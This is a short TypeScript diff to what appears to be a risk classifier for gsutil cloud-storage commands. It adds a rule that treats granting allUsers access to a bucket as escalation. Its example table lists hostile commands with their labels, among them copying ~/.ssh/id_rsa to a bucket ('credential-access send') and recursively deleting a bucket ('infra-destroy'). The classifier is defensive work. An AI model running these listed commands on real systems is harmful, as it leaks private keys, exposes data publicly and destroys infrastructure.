@@ -1,4 +1,5 @@
 import type { Family } from '../model.ts';
+import { cloudGrants } from './cloud-grants.ts';
 
 export const STORAGE: Family = {
   names:
@@ -29,7 +30,9 @@ export const STORAGE: Family = {
         'acl|defacl ch|set': 'escalate:bucket-policy+',
         'ls|cat|du|stat|version|hash|mb|versioning|lifecycle|logging|label': '',
       },
+      special: cloudGrants,
       examples: {
+        'gsutil iam ch allUsers:objectViewer gs://b': 'escalate',
         'gsutil ls gs://b': '',
         'gsutil cp ~/.ssh/id_rsa gs://b/': 'credential-access send',
         'gsutil rm -r gs://b': 'infra-destroy',
